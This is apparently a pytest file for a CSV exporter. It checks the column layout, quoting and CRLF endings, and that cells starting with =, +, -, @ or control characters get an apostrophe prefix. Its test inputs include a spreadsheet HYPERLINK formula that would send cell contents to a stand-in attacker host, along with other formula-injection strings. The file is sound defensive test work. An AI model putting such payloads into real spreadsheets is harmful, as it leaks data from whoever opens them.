"""CSV: one row per span, RFC 4180, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from projects.domain.exports.csv import FIXED_COLUMNS, header, neutralise
from projects.domain.exports.records import ExportAnnotation, ExportDocument, ExportSpan

from .conftest import unicode_document, write

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def restore(cell: str) -> str:
    """The documented way back: drop one leading apostrophe."""
    return cell[1:] if cell.startswith("'") else cell


def test_one_row_per_span_with_the_documented_columns() -> None:
    document = unicode_document()
    data, _ = write([document], "csv")
    table = rows(data)
    assert list(table[0]) == [*FIXED_COLUMNS, "source", "stance"]
    expected = [
        (annotation, span) for annotation in document.annotations for span in annotation.spans
    ]
    assert len(table) == len(expected)
    for row, (annotation, span) in zip(table, expected, strict=True):
        assert restore(row["document_id"]) == document.external_id
        assert row["split"] == "train"
        assert row["annotator"] == ("gold" if annotation.gold else annotation.annotator)
        assert row["gold"] == ("true" if annotation.gold else "false")
        assert (row["span_id"], int(row["start"]), int(row["end"])) == (
            span.id,
            span.start,
            span.end,
        )
        assert row["label"] == span.label
        assert restore(row["text"]) == span.text == document.text[span.start : span.end]
        assert restore(row["source"]) == span.attributes.get("source", "")
        assert restore(row["stance"]) == span.attributes.get("stance", "")


def test_lines_end_in_crlf_and_line_breaks_inside_cells_are_quoted() -> None:
    data, _ = write([unicode_document()], "csv")
    text = data.decode("utf-8")
    assert text.startswith("document_id,split,annotator,gold,span_id,")
    assert text.endswith("\r\n")
    assert '"👨\u200d👩\u200d👧 agrees.\n中国人民"' in text
    assert not data.startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_cells_a_spreadsheet_would_run_are_neutralised(start: str) -> None:
    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    assert neutralise(hostile) == "'" + hostile
    assert restore(neutralise(hostile)) == hostile


def test_neutralising_is_reversible_for_text_that_starts_with_an_apostrophe() -> None:
    for value in ("'=already quoted", "'plain", "plain", "", "a=b"):
        assert restore(neutralise(value)) == value
    assert neutralise("a=b") == "a=b"


def test_hostile_text_ids_labels_annotators_and_attributes_are_all_neutralised() -> None:
    text = "=1+2 +cmd -rm @SUM(A1)"
    hostile = ExportDocument(
        external_id='=HYPERLINK("x")',
        title="t",
        text=text,
        annotations=(
            ExportAnnotation(
                annotator="@attacker",
                gold=False,
                status="submitted",
                spans=tuple(
                    ExportSpan(f"-{n}", start, end, "+Label", text[start:end], {"source": "=evil"})
                    for n, (start, end) in enumerate([(0, 4), (5, 9), (10, 13), (14, 22)])
                ),
            ),
        ),
    )
    data, _ = write([hostile], "csv")
    for row in rows(data):
        for column, cell in row.items():
            if column in ("start", "end"):
                assert cell.isdigit()
            else:
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
        assert restore(row["text"]) in text.split(" ")
        assert row["annotator"] == "'@attacker"
        assert row["document_id"] == '\'=HYPERLINK("x")'


def test_an_attribute_named_like_a_fixed_column_gets_a_prefix() -> None:
    assert header(["label", "source"])[-2:] == ["attribute:label", "source"]
